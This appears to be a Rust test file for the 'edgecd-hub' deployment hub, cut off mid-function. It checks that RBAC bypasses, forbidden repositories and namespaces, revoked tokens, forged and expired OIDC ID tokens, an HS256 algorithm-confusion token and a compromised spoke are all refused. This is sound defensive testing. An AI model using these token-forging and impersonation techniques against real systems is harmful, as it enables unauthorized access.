//! Attacks on the client API of a hub started as `edgecd-hub serve` does (TLS from the hub CA, real accounts), over real gRPC on TCP, on SQLite and PostgreSQL: a viewer syncing, a member of project A reaching project B, forbidden sources and destinations, tokens after revocation or logout, OIDC tokens that are forged, for another audience or expired. Each fails with a clear error and changes nothing.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::sync::{Arc, OnceLock};
use std::time::Duration;

use edgecd_hub::auth::{Accounts, AttemptLimits, AuthConfig, ManualClock, OidcConfig, Rate};
use edgecd_hub::pki::MasterKey;
use edgecd_hub::security::{CaSettings, SecuritySettings};
use edgecd_hub::server::{Database, RunningServer, Server, ServerConfig};
use edgecd_hub::store::{NewApp, NewCluster, PgStore, SecurityStore, SqliteStore, Store};
use edgecd_proto::v1;
use edgecd_proto::v1::hub_service_client::HubServiceClient;
use edgecd_testkit::PgServer;
use tonic::transport::Channel;
use tonic::{Code, Request};

fn pg_server() -> &'static PgServer {
    static SERVER: OnceLock<PgServer> = OnceLock::new();
    SERVER.get_or_init(|| PgServer::start().expect("starting PostgreSQL"))
}

/// A hub with two projects, an app `web` in each, and users:
/// root (admin), alice (deployer in team-a), vic (viewer in team-a), bob (owner of team-b).
struct Fleet {
    hub: RunningServer,
    store: Arc<dyn Store>,
    channel: Channel,
    _dir: tempfile::TempDir,
}

enum Backend {
    Sqlite,
    Postgres,
}

fn project(users: &[(&str, &str)]) -> edgecd_core::project::ProjectSpec {
    let roles: Vec<serde_json::Value> = users
        .iter()
        .map(|(user, role)| serde_json::json!({"role": role, "users": [user]}))
        .collect();
    serde_json::from_value(serde_json::json!({
        "sourceRepos": ["https://git.example.com/teams/*"],
        "destinations": [{"clusters": ["edge-*"], "namespace": "team-*"}],
        "roles": roles,
    }))
    .unwrap()
}

fn app_spec(repo: &str, cluster: &str, namespace: &str) -> edgecd_core::app::ApplicationSpec {
    serde_json::from_value(serde_json::json!({
        "source": {"repoURL": repo, "path": "."},
        "destination": {"name": cluster, "namespace": namespace},
    }))
    .unwrap()
}

async fn fleet(backend: Backend, oidc: Option<OidcConfig>) -> Fleet {
    fleet_with(backend, |settings| {
        settings.auth = Some(AuthConfig {
            oidc,
            ..AuthConfig::default()
        });
    })
    .await
}

/// The fleet of [`fleet`] with its security settings changed by `configure`.
async fn fleet_with(backend: Backend, configure: impl FnOnce(&mut SecuritySettings)) -> Fleet {
    let dir = tempfile::tempdir().unwrap();
    let (database, store, security): (Database, Arc<dyn Store>, Arc<dyn SecurityStore>) =
        match backend {
            Backend::Sqlite => {
                let path = dir.path().join("hub.db");
                let store = Arc::new(SqliteStore::open(&path).await.unwrap());
                (Database::Sqlite(path), store.clone(), store)
            }
            Backend::Postgres => {
                let url = pg_server().create_database().unwrap();
                let store = Arc::new(PgStore::connect_url(&url).await.unwrap());
                (Database::Postgres(url), store.clone(), store)
            }
        };
    let (master, _) = MasterKey::generate().unwrap();
    let mut security_settings = SecuritySettings::stored(master, vec!["127.0.0.1".into()]);
    configure(&mut security_settings);
    let mut config = ServerConfig::insecure_local(database);
    config.security = Some(security_settings);
    let hub = Server::start(config).await.unwrap();

    // The first admin and the fixtures, written as an installer would.
    let accounts = Accounts::new(store.clone(), security, AuthConfig::default()).unwrap();
    accounts
        .create_user("root", Some("root-password"), true, &[])
        .await
        .unwrap();
    for user in ["alice", "vic", "bob"] {
        accounts
            .create_user(user, Some(&format!("{user}-password")), false, &[])
            .await
            .unwrap();
    }
    store
        .create_project(
            "team-a",
            &project(&[("alice", "Deployer"), ("vic", "Viewer")]),
        )
        .await
        .unwrap();
    store
        .create_project("team-b", &project(&[("bob", "Owner")]))
        .await
        .unwrap();
    store
        .create_cluster(&NewCluster {
            name: "edge-1".into(),
            ..NewCluster::default()
        })
        .await
        .unwrap();
    for project in ["team-a", "team-b"] {
        store
            .create_app(&NewApp {
                project: project.into(),
                name: "web".into(),
                spec: app_spec(
                    "https://git.example.com/teams/web",
                    "edge-1",
                    &format!("{project}-web"),
                ),
                labels: Default::default(),
                owner: None,
            })
            .await
            .unwrap();
    }

    // TLS to the client API, trusting the hub CA.
    let pki = hub.pki().unwrap();
    let mut roots = rustls::RootCertStore::empty();
    for cert in rustls_pki_types::pem::PemObject::pem_slice_iter(pki.ca_pem().as_bytes()) {
        let cert: rustls_pki_types::CertificateDer<'static> = cert.unwrap();
        roots.add(cert).unwrap();
    }
    let mut tls = rustls::ClientConfig::builder_with_provider(Arc::new(
        rustls::crypto::ring::default_provider(),
    ))
    .with_safe_default_protocol_versions()
    .unwrap()
    .with_root_certificates(roots)
    .with_no_client_auth();
    tls.alpn_protocols = vec![b"h2".to_vec()];
    let address = format!("https://127.0.0.1:{}", hub.grpc_addr().port());
    let channel = edgecd_spoke::link::tls::channel(&address, Arc::new(tls), Duration::from_secs(5))
        .await
        .unwrap();
    Fleet {
        hub,
        store,
        channel,
        _dir: dir,
    }
}

impl Fleet {
    fn client(&self) -> HubServiceClient<Channel> {
        HubServiceClient::new(self.channel.clone())
    }

    async fn login(&self, user: &str) -> String {
        self.client()
            .login(v1::LoginRequest {
                method: Some(v1::login_request::Method::Password(v1::PasswordLogin {
                    username: user.into(),
                    password: format!("{user}-password"),
                })),
            })
            .await
            .unwrap()
            .into_inner()
            .token
    }

    /// Registers cluster edge-2 with one app, team-b/cache, on it.
    async fn add_edge_2_running_team_b_cache(&self) {
        self.store
            .create_cluster(&NewCluster {
                name: "edge-2".into(),
                ..NewCluster::default()
            })
            .await
            .unwrap();
        self.store
            .create_app(&NewApp {
                project: "team-b".into(),
                name: "cache".into(),
                spec: app_spec(
                    "https://git.example.com/teams/cache",
                    "edge-2",
                    "team-b-cache",
                ),
                labels: Default::default(),
                owner: None,
            })
            .await
            .unwrap();
    }

    async fn commands(&self) -> usize {
        self.store
            .list_commands(
                &edgecd_hub::store::CommandScope::Cluster("edge-1".into()),
                100,
                None,
            )
            .await
            .unwrap()
            .items
            .len()
    }
}

fn authed<T>(token: &str, message: T) -> Request<T> {
    let mut request = Request::new(message);
    request
        .metadata_mut()
        .insert("authorization", format!("Bearer {token}").parse().unwrap());
    request
}

/// A call with `token` is refused because its session ended.
async fn assert_session_ended(api: &mut HubServiceClient<Channel>, token: &str) {
    let err = api
        .who_am_i(authed(token, v1::WhoAmIRequest {}))
        .await
        .unwrap_err();
    assert_eq!(err.code(), Code::Unauthenticated);
    assert_eq!(
        err.message(),
        "invalid token: unknown or ended session; log in again"
    );
}

fn app_ref(project: &str) -> Option<v1::AppRef> {
    Some(v1::AppRef {
        project: project.into(),
        name: "web".into(),
    })
}

fn sync(project: &str) -> v1::SyncApplicationRequest {
    v1::SyncApplicationRequest {
        request_id: String::new(),
        app: app_ref(project),
        sync: Some(v1::SyncCommand::default()),
        ttl: None,
    }
}

async fn rbac_attacks(backend: Backend) {
    let fleet = fleet(backend, None).await;
    let mut api = fleet.client();

    // No token at all.
    let err = api
        .list_applications(v1::ListApplicationsRequest::default())
        .await
        .unwrap_err();
    assert_eq!(err.code(), Code::Unauthenticated);
    assert_eq!(err.message(), "authentication required: no bearer token");

    // A wrong password.
    let err = api
        .login(v1::LoginRequest {
            method: Some(v1::login_request::Method::Password(v1::PasswordLogin {
                username: "alice".into(),
                password: "guess".into(),
            })),
        })
        .await
        .unwrap_err();
    assert_eq!(err.code(), Code::Unauthenticated);
    assert_eq!(err.message(), "invalid username or password");

    // A viewer issuing a sync.
    let vic = fleet.login("vic").await;
    let err = api
        .sync_application(authed(&vic, sync("team-a")))
        .await
        .unwrap_err();
    assert_eq!(err.code(), Code::PermissionDenied);
    assert_eq!(
        err.message(),
        "vic may not operate (sync, refresh, rollback, terminate) in project team-a"
    );
    // ... who may still read.
    api.get_application(authed(
        &vic,
        v1::GetApplicationRequest {
            app: app_ref("team-a"),
        },
    ))
    .await
    .unwrap();

    // A member of project A listing, reading and syncing apps of project B.
    let alice = fleet.login("alice").await;
    let listed = api
        .list_applications(authed(&alice, v1::ListApplicationsRequest::default()))
        .await
        .unwrap()
        .into_inner();
    let projects: Vec<String> = listed.items.iter().map(|a| a.project.clone()).collect();
    assert_eq!(
        projects,
        vec!["team-a".to_owned()],
        "team-b is invisible to alice"
    );
    let only_b = api
        .list_applications(authed(
            &alice,
            v1::ListApplicationsRequest {
                filter: Some(v1::ApplicationFilter {
                    projects: vec!["team-b".into()],
                    ..Default::default()
                }),
                ..Default::default()
            },
        ))
        .await;
    match only_b {
        Ok(page) => assert!(page.into_inner().items.is_empty()),
        Err(status) => assert_eq!(status.code(), Code::PermissionDenied),
    }
    let err = api
        .get_application(authed(
            &alice,
            v1::GetApplicationRequest {
                app: app_ref("team-b"),
            },
        ))
        .await
        .unwrap_err();
    assert_eq!(err.code(), Code::PermissionDenied);
    assert_eq!(err.message(), "alice may not read in project team-b");
    let err = api
        .sync_application(authed(&alice, sync("team-b")))
        .await
        .unwrap_err();
    assert_eq!(err.code(), Code::PermissionDenied);
    assert_eq!(
        err.message(),
        "alice may not operate (sync, refresh, rollback, terminate) in project team-b"
    );
    assert_eq!(fleet.commands().await, 0, "no command was enqueued");
    // Alice's own project works.
    api.sync_application(authed(&alice, sync("team-a")))
        .await
        .unwrap();
    assert_eq!(fleet.commands().await, 1);

    // Apps whose source or destination the project forbids.
    let bob = fleet.login("bob").await;
    let create = |repo: &str, namespace: &str| v1::CreateApplicationRequest {
        meta: Some(v1::ApplicationMeta {
            project: "team-b".into(),
            name: "rogue".into(),
            ..Default::default()
        }),
        spec: Some(edgecd_proto::convert::application_spec(&app_spec(
            repo, "edge-1", namespace,
        ))),
        dry_run: false,
        upsert: false,
    };
    let err = api
        .create_application(authed(
            &bob,
            create("https://evil.example.com/x", "team-b-web"),
        ))
        .await
        .unwrap_err();
    assert_eq!(err.code(), Code::PermissionDenied);
    assert!(
        err.message().contains("https://evil.example.com/x"),
        "{}",
        err.message()
    );
    // A forbidden repository as the second source of a multi-source app (its values repository) is refused
    // as well: the project's sourceRepos hold for every source.
    let mut multi = app_spec("https://git.example.com/teams/x", "edge-1", "team-b-web");
    multi.sources = vec![
        multi.source.clone(),
        serde_json::from_value(
            serde_json::json!({"repoURL": "https://evil.example.com/values", "ref": "values"}),
        )
        .unwrap(),
    ];
    multi.source = Default::default();
    let err = api
        .create_application(authed(
            &bob,
            v1::CreateApplicationRequest {
                spec: Some(edgecd_proto::convert::application_spec(&multi)),
                ..create("", "")
            },
        ))
        .await
        .unwrap_err();
    assert_eq!(err.code(), Code::PermissionDenied, "{err:?}");
    assert!(
        err.message().contains("https://evil.example.com/values"),
        "{}",
        err.message()
    );
    let err = api
        .create_application(authed(
            &bob,
            create("https://git.example.com/teams/x", "kube-system"),
        ))
        .await
        .unwrap_err();
    assert_eq!(err.code(), Code::PermissionDenied);
    assert!(err.message().contains("kube-system"), "{}", err.message());
    assert!(
        fleet.store.get_app("team-b", "rogue").await.is_err(),
        "nothing created"
    );

    // Every refusal above is in the audit log, with the caller.
    let audit = fleet.store.list_audit(100, None).await.unwrap();
    assert!(
        audit
            .items
            .iter()
            .any(|e| e.actor == "alice" && e.result != "ok" && e.target.contains("team-b")),
        "{:?}",
        audit.items
    );
    drop(fleet.hub);
}

#[tokio::test]
async fn rbac_attacks_fail_and_change_nothing_on_sqlite() {
    rbac_attacks(Backend::Sqlite).await;
}

#[tokio::test]
async fn rbac_attacks_fail_and_change_nothing_on_postgres() {
    rbac_attacks(Backend::Postgres).await;
}

#[tokio::test]
async fn api_tokens_are_scoped_and_dead_after_revocation_sessions_after_logout() {
    let fleet = fleet(Backend::Sqlite, None).await;
    let mut api = fleet.client();
    let alice = fleet.login("alice").await;

    // A token can carry at most the caller's rights.
    let err = api
        .create_api_token(authed(
            &alice,
            v1::CreateApiTokenRequest {
                name: "too much".into(),
                roles: vec![v1::ProjectRole {
                    project: "team-b".into(),
                    role: v1::ProjectRoleKind::Viewer as i32,
                }],
                admin: false,
                ttl: None,
            },
        ))
        .await
        .unwrap_err();
    assert_eq!(err.code(), Code::PermissionDenied);

    // A read-only token for team-a.
    let issued = api
        .create_api_token(authed(
            &alice,
            v1::CreateApiTokenRequest {
                name: "ci".into(),
                roles: vec![v1::ProjectRole {
                    project: "team-a".into(),
                    role: v1::ProjectRoleKind::Viewer as i32,
                }],
                admin: false,
                ttl: None,
            },
        ))
        .await
        .unwrap()
        .into_inner();
    let token = issued.token;
    // Only its hash is stored.
    let stored = fleet.store.list_tokens("alice").await.unwrap();
    assert_eq!(stored.len(), 1);
    assert_ne!(stored[0].token_hash.0, token);
    assert!(!stored[0].token_hash.0.contains(&token));

    api.get_application(authed(
        &token,
        v1::GetApplicationRequest {
            app: app_ref("team-a"),
        },
    ))
    .await
    .unwrap();
    let err = api
        .sync_application(authed(&token, sync("team-a")))
        .await
        .unwrap_err();
    assert_eq!(err.code(), Code::PermissionDenied, "the token is read-only");
    let err = api
        .get_application(authed(
            &token,
            v1::GetApplicationRequest {
                app: app_ref("team-b"),
            },
        ))
        .await
        .unwrap_err();
    assert_eq!(err.code(), Code::PermissionDenied);

    // Revoked: refused from then on.
    api.revoke_api_token(authed(
        &alice,
        v1::RevokeApiTokenRequest {
            id: issued.id.clone(),
        },
    ))
    .await
    .unwrap();
    let err = api
        .get_application(authed(
            &token,
            v1::GetApplicationRequest {
                app: app_ref("team-a"),
            },
        ))
        .await
        .unwrap_err();
    assert_eq!(err.code(), Code::Unauthenticated);
    assert_eq!(err.message(), "token revoked");

    // A session after logout.
    api.logout(authed(&alice, v1::LogoutRequest {}))
        .await
        .unwrap();
    assert_session_ended(&mut api, &alice).await;

    // A made-up token.
    let err = api
        .who_am_i(authed("ect_abc_def", v1::WhoAmIRequest {}))
        .await
        .unwrap_err();
    assert_eq!(err.message(), "invalid token: unknown API token");
    assert_eq!(fleet.commands().await, 0);
}

/// Review finding 5: an API token carried the grants it was created with,
/// whatever happened to its owner since. Now it holds no more than its owner
/// holds at each call; deleting a user ends their sessions and tokens; admins
/// can list anyone's tokens, others only their own.
#[tokio::test]
async fn api_tokens_follow_their_owners_current_roles_and_users_can_be_deleted() {
    let fleet = fleet(Backend::Sqlite, None).await;
    let mut api = fleet.client();
    let root = fleet.login("root").await;
    let alice = fleet.login("alice").await;
    let token_for = |roles: Vec<v1::ProjectRole>| v1::CreateApiTokenRequest {
        name: "ci".into(),
        roles,
        admin: false,
        ttl: None,
    };
    let deployer = v1::ProjectRole {
        project: "team-a".into(),
        role: v1::ProjectRoleKind::Deployer as i32,
    };
    let token = api
        .create_api_token(authed(&alice, token_for(vec![deployer.clone()])))
        .await
        .unwrap()
        .into_inner()
        .token;
    api.sync_application(authed(&token, sync("team-a")))
        .await
        .unwrap();
    let synced = fleet.commands().await;

    // An admin takes alice's binding in team-a away (vic stays a viewer).
    let mut project = api
        .get_project(authed(
            &root,
            v1::GetProjectRequest {
                name: "team-a".into(),
            },
        ))
        .await
        .unwrap()
        .into_inner();
    project
        .roles
        .retain(|binding| !binding.users.iter().any(|u| u == "alice"));
    api.update_project(authed(
        &root,
        v1::UpdateProjectRequest {
            project: Some(project),
            expected_version: 0,
        },
    ))
    .await
    .unwrap();
    // Her token is refused at its next call, reading as well as syncing; so is her session.
    for (who, credential) in [("token", &token), ("session", &alice)] {
        let err = api
            .sync_application(authed(credential, sync("team-a")))
            .await
            .unwrap_err();
        assert_eq!(err.code(), Code::PermissionDenied, "{who}: {err:?}");
        let err = api
            .get_application(authed(
                credential,
                v1::GetApplicationRequest {
                    app: app_ref("team-a"),
                },
            ))
            .await
            .unwrap_err();
        assert_eq!(err.code(), Code::PermissionDenied, "{who}: {err:?}");
    }
    assert_eq!(fleet.commands().await, synced, "nothing was enqueued");

    // Admins list anyone's tokens; alice may not list root's.
    let listed = api
        .list_api_tokens(authed(
            &root,
            v1::ListApiTokensRequest {
                owner: "alice".into(),
            },
        ))
        .await
        .unwrap()
        .into_inner();
    assert_eq!(listed.items.len(), 1, "{listed:?}");
    assert_eq!(listed.items[0].owner, "alice");
    let err = api
        .list_api_tokens(authed(
            &alice,
            v1::ListApiTokensRequest {
                owner: "root".into(),
            },
        ))
        .await
        .unwrap_err();
    assert_eq!(err.code(), Code::PermissionDenied);

    // Deleting vic ends his session and his token; non-admins cannot delete users.
    let vic = fleet.login("vic").await;
    let viewer = v1::ProjectRole {
        project: "team-a".into(),
        role: v1::ProjectRoleKind::Viewer as i32,
    };
    let vic_token = api
        .create_api_token(authed(&vic, token_for(vec![viewer])))
        .await
        .unwrap()
        .into_inner()
        .token;
    let err = api
        .delete_user(authed(&alice, v1::DeleteUserRequest { name: "vic".into() }))
        .await
        .unwrap_err();
    assert_eq!(err.code(), Code::PermissionDenied);
    let deleted = api
        .delete_user(authed(&root, v1::DeleteUserRequest { name: "vic".into() }))
        .await
        .unwrap()
        .into_inner();
    assert_eq!((deleted.sessions_ended, deleted.tokens_revoked), (1, 1));
    assert_session_ended(&mut api, &vic).await;
    let err = api
        .who_am_i(authed(&vic_token, v1::WhoAmIRequest {}))
        .await
        .unwrap_err();
    assert_eq!(err.code(), Code::Unauthenticated);
    let err = api
        .delete_user(authed(
            &root,
            v1::DeleteUserRequest {
                name: "root".into(),
            },
        ))
        .await
        .unwrap_err();
    assert_eq!(err.code(), Code::FailedPrecondition, "{err:?}");
}

/// Review finding 3: a project owner widened their own project's limits (every
/// cluster, every cluster-scoped kind) and then synced a ClusterRoleBinding
/// onto another team's cluster. Limits are the admins' to change; owners may
/// change the description.
#[tokio::test]
async fn a_project_owner_cannot_widen_the_projects_limits() {
    let fleet = fleet(Backend::Sqlite, None).await;
    let mut api = fleet.client();
    let bob = fleet.login("bob").await;
    let root = fleet.login("root").await;
    let current = api
        .get_project(authed(
            &bob,
            v1::GetProjectRequest {
                name: "team-b".into(),
            },
        ))
        .await
        .unwrap()
        .into_inner();
    let update = |project: v1::Project| v1::UpdateProjectRequest {
        project: Some(project),
        expected_version: 0,
    };
    let every = |namespace: &str| v1::ProjectDestination {
        cluster_selector: None,
        cluster_names: vec![],
        all_clusters: true,
        namespace: namespace.into(),
    };
    let widenings: Vec<(&str, v1::Project)> = vec![
        (
            "destinations",
            v1::Project {
                destinations: vec![every("*")],
                ..current.clone()
            },
        ),
        (
            "cluster-scoped kinds",
            v1::Project {
                cluster_resource_allow: vec![v1::GroupKind {
                    group: "*".into(),
                    kind: "*".into(),
                    name: String::new(),
                }],
                ..current.clone()
            },
        ),
        (
            "source repositories",
            v1::Project {
                source_repos: vec!["*".into()],
                ..current.clone()
            },
        ),
        (
            "namespaced kinds",
            v1::Project {
                namespace_resource_deny: vec![v1::GroupKind {
                    group: "".into(),
                    kind: "Secret".into(),
                    name: String::new(),
                }],
                ..current.clone()
            },
        ),
    ];
    for (field, project) in widenings {
        let err = api
            .update_project(authed(&bob, update(project)))
            .await
            .unwrap_err();
        assert_eq!(err.code(), Code::PermissionDenied, "{field}: {err:?}");
        assert!(
            err.message()
                .contains(&format!("bob may not change the {field} of project team-b")),
            "{field}: {}",
            err.message()
        );
    }
    // Nothing changed.
    let after = fleet.store.get_project("team-b").await.unwrap();
    assert_eq!(after.version, current.version);
    // The description is the owner's; the limits are the admins'.
    api.update_project(authed(
        &bob,
        update(v1::Project {
            description: "web of team b".into(),
            ..current.clone()
        }),
    ))
    .await
    .unwrap();
    let widened = api
        .update_project(authed(
            &root,
            update(v1::Project {
                destinations: vec![every("team-*")],
                ..current.clone()
            }),
        ))
        .await
        .unwrap()
        .into_inner();
    assert!(widened.destinations[0].all_clusters);
}

// --- OIDC ---

/// An OIDC provider's signing key (ES256) and its JWKS served over HTTP.
struct Provider {
    pkcs8: Vec<u8>,
    jwks_url: String,
}

fn b64(bytes: &[u8]) -> String {
    use base64::Engine as _;
    base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(bytes)
}

fn es256_key() -> (Vec<u8>, serde_json::Value) {
    use ring::signature::{ECDSA_P256_SHA256_FIXED_SIGNING, EcdsaKeyPair, KeyPair as _};
    let rng = ring::rand::SystemRandom::new();
    let pkcs8 = EcdsaKeyPair::generate_pkcs8(&ECDSA_P256_SHA256_FIXED_SIGNING, &rng).unwrap();
    let pair =
        EcdsaKeyPair::from_pkcs8(&ECDSA_P256_SHA256_FIXED_SIGNING, pkcs8.as_ref(), &rng).unwrap();
    let public = pair.public_key().as_ref();
    let jwk = serde_json::json!({
        "kty": "EC", "crv": "P-256", "kid": "key-1", "alg": "ES256", "use": "sig",
        "x": b64(&public[1..33]), "y": b64(&public[33..65]),
    });
    (pkcs8.as_ref().to_vec(), jwk)
}

/// Serves `body` as JSON to every HTTP request on a loopback port.
async fn serve_json(body: String) -> String {
    use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move {
        loop {
            let Ok((mut socket, _)) = listener.accept().await else {
                return;
            };
            let body = body.clone();
            tokio::spawn(async move {
                let mut request = Vec::new();
                let mut buf = [0u8; 1024];
                while !request.windows(4).any(|w| w == b"\r\n\r\n") {
                    match socket.read(&mut buf).await {
                        Ok(0) | Err(_) => return,
                        Ok(n) => request.extend_from_slice(&buf[..n]),
                    }
                }
                let response = format!(
                    "HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}",
                    body.len()
                );
                let _ = socket.write_all(response.as_bytes()).await;
            });
        }
    });
    format!("http://{addr}/keys")
}

async fn provider() -> Provider {
    let (pkcs8, jwk) = es256_key();
    let jwks = serde_json::json!({ "keys": [jwk] }).to_string();
    Provider {
        pkcs8,
        jwks_url: serve_json(jwks).await,
    }
}

fn id_token(pkcs8: &[u8], claims: serde_json::Value) -> String {
    let mut header = jsonwebtoken::Header::new(jsonwebtoken::Algorithm::ES256);
    header.kid = Some("key-1".into());
    jsonwebtoken::encode(
        &header,
        &claims,
        &jsonwebtoken::EncodingKey::from_ec_der(pkcs8),
    )
    .unwrap()
}

fn claims(audience: &str, expires_in: i64, groups: &[&str]) -> serde_json::Value {
    let now = time::OffsetDateTime::now_utc().unix_timestamp();
    serde_json::json!({
        "iss": "https://idp.example.com",
        "aud": audience,
        "sub": "u-123",
        "email": "olga@example.com",
        "groups": groups,
        "iat": now,
        "exp": now + expires_in,
    })
}

#[tokio::test]
async fn oidc_id_tokens_are_checked_against_the_jwks_and_groups_map_to_roles() {
    let idp = provider().await;
    let mut oidc = OidcConfig::new("https://idp.example.com", "edgecd", &idp.jwks_url);
    oidc.admin_groups = vec!["platform".into()];
    oidc.group_grants = vec![(
        "team-a-ops".into(),
        edgecd_core::access::Grant {
            project: "team-a".into(),
            role: edgecd_core::project::ProjectRole::Deployer,
        },
    )];
    let fleet = fleet(Backend::Sqlite, Some(oidc)).await;
    let mut api = fleet.client();
    let login = |token: String| v1::LoginRequest {
        method: Some(v1::login_request::Method::OidcIdToken(token)),
    };

    let info = api
        .get_server_info(v1::GetServerInfoRequest {})
        .await
        .unwrap()
        .into_inner();
    assert_eq!(info.login_methods, vec!["local", "oidc"]);

    // A good token: groups become roles.
    let session = api
        .login(login(id_token(
            &idp.pkcs8,
            claims("edgecd", 300, &["team-a-ops"]),
        )))
        .await
        .unwrap()
        .into_inner();
    let user = session.user.unwrap();
    assert_eq!(user.name, "olga@example.com");
    assert_eq!(user.source, "oidc");
    assert!(!user.admin);
    api.sync_application(authed(&session.token, sync("team-a")))
        .await
        .unwrap();
    let err = api
        .sync_application(authed(&session.token, sync("team-b")))
        .await
        .unwrap_err();
    assert_eq!(err.code(), Code::PermissionDenied);
    let admin = api
        .login(login(id_token(
            &idp.pkcs8,
            claims("edgecd", 300, &["platform"]),
        )))
        .await
        .unwrap()
        .into_inner();
    assert!(admin.user.unwrap().admin);

    // Forged (another key with the same kid), another audience, expired.
    let (other_key, _) = es256_key();
    for (token, why) in [
        (
            id_token(&other_key, claims("edgecd", 300, &["platform"])),
            "InvalidSignature",
        ),
        (
            id_token(&idp.pkcs8, claims("another-app", 300, &["platform"])),
            "InvalidAudience",
        ),
        (
            id_token(&idp.pkcs8, claims("edgecd", -3600, &["platform"])),
            "ExpiredSignature",
        ),
    ] {
        let err = api.login(login(token)).await.unwrap_err();
        assert_eq!(err.code(), Code::Unauthenticated, "{why}");
        assert!(
            err.message()
                .starts_with("OIDC login failed: ID token rejected"),
            "{}",
            err.message()
        );
        assert!(err.message().contains(why), "{}", err.message());
    }
    // An HMAC token signed with the public JWK as secret is refused outright.
    let hs = jsonwebtoken::encode(
        &jsonwebtoken::Header::new(jsonwebtoken::Algorithm::HS256),
        &claims("edgecd", 300, &["platform"]),
        &jsonwebtoken::EncodingKey::from_secret(b"whatever"),
    )
    .unwrap();
    let err = api.login(login(hs)).await.unwrap_err();
    assert_eq!(
        err.message(),
        "OIDC login failed: ID token algorithm HS256 is not accepted"
    );
    assert_eq!(fleet.commands().await, 1, "only the legitimate sync");
}

// --- repository credentials ---

/// Enrolls `cluster` with the spoke's code and opens its stream; returns the
/// first `RepositoryCredentials` the hub sends.
async fn credentials_sent_to(fleet: &Fleet, cluster: &str) -> v1::RepositoryCredentials {
    let (mut spoke, _) = HandDriven::connect(fleet, cluster, "e1").await;
    spoke.credentials().await
}

/// A spoke's stream driven by hand with its real certificate (mTLS), as a
/// compromised spoke would drive it.
struct HandDriven {
    session: edgecd_spoke::link::LinkSession,
    next_seq: u64,
}

impl HandDriven {
    /// Enrolls `cluster` with the spoke's code and opens its stream.
    async fn connect(
        fleet: &Fleet,
        cluster: &str,
        epoch: &str,
    ) -> (Self, edgecd_spoke::link::tls::SpokeIdentity) {
        use edgecd_spoke::link::enroll;
        let pki = fleet.hub.pki().unwrap();
        let token = pki.create_bootstrap_token(cluster, None).await.unwrap();
        let identity = enroll::enroll(&enroll::EnrollParams {
            hub_address: format!("https://127.0.0.1:{}", fleet.hub.grpc_addr().port()),
            bootstrap_token: token.token,
            ca_hash: None,
            spoke_version: "0.1.0".into(),
            connect_timeout: Duration::from_secs(5),
        })
        .await
        .unwrap();
        (Self::reconnect(fleet, &identity, epoch, 1).await, identity)
    }

    async fn reconnect(
        fleet: &Fleet,
        identity: &edgecd_spoke::link::tls::SpokeIdentity,
        epoch: &str,
        next_seq: u64,
    ) -> Self {
        use edgecd_spoke::link::{HelloParams, handshake, tls};
        let address = format!("https://127.0.0.1:{}", fleet.hub.grpc_addr().port());
        let channel = tls::channel(
            &address,
            tls::mtls_config(identity).unwrap(),
            Duration::from_secs(5),
        )
        .await
        .unwrap();
        let hello = HelloParams {
            cluster_name: identity.cluster.clone(),
            spoke_version: "0.1.0".into(),
            protocol: edgecd_core::link::ProtocolVersion { major: 1, minor: 0 },
            capabilities: edgecd_core::link::Capabilities::all_v1(),
            kubernetes_version: String::new(),
            server_url: String::new(),
            epoch: epoch.into(),
            last_hub_seq: 0,
            desired_version: 0,
            next_spoke_seq: next_seq,
        };
        HandDriven {
            session: handshake(channel, &hello).await.unwrap(),
            next_seq,
        }
    }

    /// Sends `body` as the next sequenced message and waits until the hub
    /// acknowledges it (stored), acknowledging what the hub sends meanwhile;
    /// returns the hub's messages seen.
    async fn send(&mut self, body: v1::spoke_message::Body) -> Vec<v1::HubMessage> {
        let seq = self.next_seq;
        self.next_seq += 1;
        self.session
            .outbound
            .send(v1::SpokeMessage {
                seq,
                ack: 0,
                body: Some(body),
            })
            .await
            .unwrap();
        let mut seen = Vec::new();
        loop {
            let message = self.session.inbound.message().await.unwrap().unwrap();
            self.ack(&message).await;
            let acked = message.ack >= seq;
            seen.push(message);
            if acked {
                return seen;
            }
        }
    }

    async fn ack(&mut self, message: &v1::HubMessage) {
        if message.seq > 0 {
            self.session
                .outbound
                .send(v1::SpokeMessage {
                    seq: 0,
                    ack: message.seq,
                    body: None,
                })
                .await
                .unwrap();
        }
    }

    /// The first `RepositoryCredentials` the hub sends on this stream.
    async fn credentials(&mut self) -> v1::RepositoryCredentials {
        loop {
            let message = self.session.inbound.message().await.unwrap().unwrap();
            self.ack(&message).await;
            if let Some(v1::hub_message::Body::RepositoryCredentials(credentials)) = message.body {
                return credentials;
            }
        }
    }
}

/// An edge-created app's report as a spoke sends it.
fn edge_app(project: &str, name: &str, cluster: &str, namespace: &str) -> v1::AppStatusReport {
    let spec = app_spec("https://git.example.com/teams/web", cluster, namespace);
    v1::AppStatusReport {
        app: Some(v1::AppRef {
            project: project.into(),
            name: name.into(),
        }),
        status: Some(v1::ApplicationStatus {
            status_version: 1,
            ..Default::default()
        }),
        origin: v1::AppOrigin::Autonomous as i32,
        meta: Some(v1::ApplicationMeta {
            project: project.into(),
            name: name.into(),
            ..Default::default()
        }),
        spec: Some(edgecd_proto::convert::application_spec(&spec)),
    }
}

/// Review findings 2 and 4: a compromised spoke (its real certificate, the
/// stream driven by hand) reported an edge-created app in a project its
/// cluster does not run, reconnected and received that project's repository
/// credential; it could also create apps in any project and attach forged
/// events to other clusters' apps. Now credentials follow hub-defined apps
/// only, edge-created apps are admitted only where their project's policy
/// admits the cluster, and events only stick to the reporting cluster's apps.
#[tokio::test]
async fn a_compromised_spoke_speaks_only_for_its_own_cluster() {
    let fleet = fleet(Backend::Sqlite, None).await;
    let mut api = fleet.client();
    let root = fleet.login("root").await;
    api.set_repository_credential(authed(
        &root,
        v1::SetRepositoryCredentialRequest {
            url_prefix: "https://git.example.com/teams/".into(),
            projects: vec!["team-a".into()],
            username: "deploy".into(),
            password: "team-a-secret".into(),
            ssh_private_key: String::new(),
            ssh_known_hosts: String::new(),
        },
    ))
    .await
    .unwrap();
    // edge-2 runs a team-b app only; team-c allows edge-1 alone.
    fleet.add_edge_2_running_team_b_cache().await;
    let mut team_c = project(&[]);
    team_c.destinations[0].clusters = vec!["edge-1".into()];
